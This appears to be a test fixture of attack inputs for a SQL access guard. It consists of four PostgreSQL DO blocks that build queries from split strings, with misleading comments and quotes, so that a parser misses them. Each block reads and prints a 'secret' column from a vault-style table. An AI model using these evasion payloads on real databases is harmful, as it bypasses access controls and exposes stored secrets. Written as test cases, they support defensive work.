-- Runs texts where a block may: in a loop, in a cursor, in a returned query's place.
-- wants: read
-- attack:
DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT secret FROM vlt_' || 'account' LOOP RAISE NOTICE '%', r.secret; END LOOP; END $$;
DO $$ DECLARE c refcursor; v text; BEGIN OPEN c FOR EXECUTE 'SELECT secret FROM vlt_' || 'account'; FETCH c INTO v; RAISE NOTICE '%', v; END $$;
DO $$ DECLARE v text; BEGIN /* ' */ EXECUTE/**/'SELECT secret FROM vlt_' || 'account' INTO STRICT v -- LIMIT
  USING 1; EXCEPTION WHEN too_many_rows THEN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO v; RAISE NOTICE '%', v; END $$;
DO 'DECLARE v text; BEGIN EXECUTE ''SELECT secret FROM vlt_''
  ''account LIMIT 1'' INTO v; RAISE NOTICE ''%'', v; END';
